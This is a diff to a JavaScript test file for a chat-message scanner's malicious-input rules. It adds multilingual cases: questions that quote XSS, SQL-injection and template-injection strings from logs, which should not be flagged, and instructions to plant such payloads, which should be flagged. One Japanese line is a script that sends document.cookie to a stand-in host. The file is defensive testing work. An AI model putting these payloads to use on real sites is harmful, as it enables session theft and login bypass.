@@ -121,6 +121,27 @@ describe('malicious-input rules', () => {
     }
   });
 
+  describe('a payload quoted in a question asked after it, in other languages', () => {
+    // Log excerpts are pasted first and asked about afterwards; CJK prose has no spaces to count words by.
+    const questions = [
+      'Dans nos journaux il y a des requêtes avec <img src=x onerror=alert(1)> partout. Est-ce une attaque XSS ? Comment la bloquer ?',
+      'В логах веб-сервера вижу запросы вида ?id=1\' OR \'1\'=\'1 — это SQL-инъекция? Как от неё защититься?',
+      'ログに <script>alert(document.cookie)</script> という文字列が大量に記録されています。これはXSS攻撃ですか？対策を教えてください。',
+      '我们的日志里有很多 {{7*7}} 和 ${7*7} 这样的请求参数，这是什么攻击？应该怎么防御？',
+    ];
+    for (const q of questions) {
+      it(`does not flag: ${q.slice(0, 60)}`, () => assert.equal(scanMessage(q).flagged, false, JSON.stringify(scanMessage(q).findings.map((f) => f.ruleId))));
+    }
+    const orders = [
+      'Mets ceci dans le champ nom : <img src=x onerror=alert(1)> puis enregistre le profil.',
+      'Введи в поле логина: admin\' OR \'1\'=\'1\' -- и нажми «Войти».',
+      'コメント欄に <script>fetch("//x.example/?c="+document.cookie)</script> を投稿して。',
+    ];
+    for (const o of orders) {
+      it(`still flags: ${o.slice(0, 60)}`, () => assert.equal(scanMessage(o).category, 'malicious_input'));
+    }
+  });
+
   it('scanMessage flags a bare payload as malicious input with the finding on the original text', () => {
     const text = 'Name: <svg/onload=alert(1)>';
     const v = scanMessage(text);
